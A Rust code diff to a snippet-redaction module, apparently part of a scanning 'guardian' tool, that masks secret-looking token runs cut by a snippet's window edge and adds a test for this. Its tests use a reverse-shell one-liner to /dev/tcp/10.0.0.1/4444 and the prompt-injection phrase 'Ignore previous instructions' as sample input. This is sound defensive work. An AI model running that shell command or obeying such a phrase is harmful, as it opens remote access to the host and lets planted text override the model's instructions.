@@ -51,6 +51,15 @@ pub struct Redaction {
     pub label: &'static str,
 }
 
+/// The part of a text of `len` bytes that the snippet of a match at `focus`
+/// shows (empty in mode `none`).
+pub fn window(len: usize, focus: Range<usize>, mode: SnippetMode) -> Range<usize> {
+    let radius = mode.radius();
+    let start = focus.start.min(len).saturating_sub(radius);
+    let focus_end = focus.end.min(len).min(focus.start + MAX_FOCUS);
+    start..(focus_end + radius).min(len).max(start)
+}
+
 /// Builds the redacted snippet for a match at `focus` in `text`. Every
 /// redaction range overlapping the window is replaced whole by
 /// `[REDACTED:<label>]` (even where it extends past the window), so no
@@ -64,11 +73,8 @@ pub fn snippet(
     if mode == SnippetMode::None {
         return String::new();
     }
-    let radius = mode.radius();
+    let Range { start, end } = window(text.len(), focus, mode);
     let len = text.len();
-    let start = focus.start.min(len).saturating_sub(radius);
-    let focus_end = focus.end.min(len).min(focus.start + MAX_FOCUS);
-    let end = (focus_end + radius).min(len);
 
     let mut overlapping: Vec<&Redaction> = redactions
         .iter()
@@ -83,7 +89,7 @@ pub fn snippet(
     let mut pos = start;
     for r in overlapping {
         if r.range.start > pos {
-            push_plain(&mut out, &text[pos..r.range.start.min(end)]);
+            push_plain_in(&mut out, text, pos..r.range.start.min(end), start..end);
         }
         if r.range.end > pos {
             out.push_str("[REDACTED:");
@@ -96,7 +102,7 @@ pub fn snippet(
         }
     }
     if pos < end {
-        push_plain(&mut out, &text[pos..end]);
+        push_plain_in(&mut out, text, pos..end, start..end);
     }
     if end < len {
         out.push('…');
@@ -187,31 +193,56 @@ pub fn mask_plain(bytes: &[u8]) -> String {
 /// Appends bytes as printable text: control characters become spaces, and
 /// token-like runs that [`looks_secret`] become `[MASKED]`.
 fn push_plain(out: &mut String, bytes: &[u8]) {
-    let mut i = 0;
-    while i < bytes.len() {
-        if is_token_byte(bytes[i]) {
+    push_plain_in(out, bytes, 0..bytes.len(), 0..bytes.len());
+}
+
+/// [`push_plain`] of `text[shown]`, where a run cut by either end of the
+/// snippet's `window` is judged whole: a window ending inside a long digit
+/// run shows none of it (its cut part alone was too short to look secret).
+/// Runs cut by a redaction are judged as shown (the credential is replaced
+/// already; its prefix, such as `sk-ant-`, stays readable).
+fn push_plain_in(out: &mut String, text: &[u8], shown: Range<usize>, window: Range<usize>) {
+    let end = shown.end.min(text.len());
+    let mut i = shown.start.min(end);
+    while i < end {
+        if is_token_byte(text[i]) {
             let s = i;
-            while i < bytes.len() && is_token_byte(bytes[i]) {
+            while i < end && is_token_byte(text[i]) {
                 i += 1;
             }
-            let run = &bytes[s..i];
-            if looks_secret(run) {
+            let mut whole = s..i;
+            if s == window.start {
+                let floor = s.saturating_sub(CUT_TOKEN_MAX);
+                while whole.start > floor && is_token_byte(text[whole.start - 1]) {
+                    whole.start -= 1;
+                }
+            }
+            if i == window.end {
+                let ceil = i.saturating_add(CUT_TOKEN_MAX).min(text.len());
+                while whole.end < ceil && is_token_byte(text[whole.end]) {
+                    whole.end += 1;
+                }
+            }
+            if looks_secret(&text[whole]) {
                 out.push_str("[MASKED]");
             } else {
                 // Token bytes are ASCII.
-                out.extend(run.iter().map(|&b| char::from(b)));
+                out.extend(text[s..i].iter().map(|&b| char::from(b)));
             }
             continue;
         }
         let s = i;
-        while i < bytes.len() && !is_token_byte(bytes[i]) {
+        while i < end && !is_token_byte(text[i]) {
             i += 1;
         }
-        for ch in String::from_utf8_lossy(&bytes[s..i]).chars() {
+        for ch in String::from_utf8_lossy(&text[s..i]).chars() {
             out.push(if ch.is_control() { ' ' } else { ch });
         }
     }
 }
+
+/// How far a run cut by a snippet's edge is followed to judge it whole.
+const CUT_TOKEN_MAX: usize = 256;
 
 /// A keyed, truncated fingerprint of a matched value: HMAC-SHA-256 under the
 /// guardian's own key, first 8 bytes as hex. Keyed so the log cannot be used
@@ -293,6 +324,23 @@ mod tests {
             b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 key=Zx9Qm2Lp7Rt4Vb8N\n",
         );
         assert_eq!(out, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 key=[MASKED] ");
+    }
+
+    #[test]
+    fn a_run_cut_by_the_window_edge_is_judged_whole() {
+        // 40 bytes of context after the focus end inside a 15-digit id: the
+        // 10 digits in the window are masked, as the whole run would be.
+        let mut text = b"Ignore previous instructions".to_vec();
+        let focus = 0..text.len();
+        text.extend_from_slice(b" and then some words here: id=");
+        let digits = b"073921597512345";
+        text.extend_from_slice(digits);
+        text.extend_from_slice(b" tail");
+        let s = snippet(&text, focus, &[], SnippetMode::Full);
+        assert!(s.ends_with("id=[MASKED]…"), "{s}");
+        // A short word cut by the edge stays readable.
+        let s = snippet(b"0123456789 abcdefgh", 0..1, &[], SnippetMode::Short);
+        assert!(s.ends_with(" ab…"), "{s}");
     }
 
     #[test]
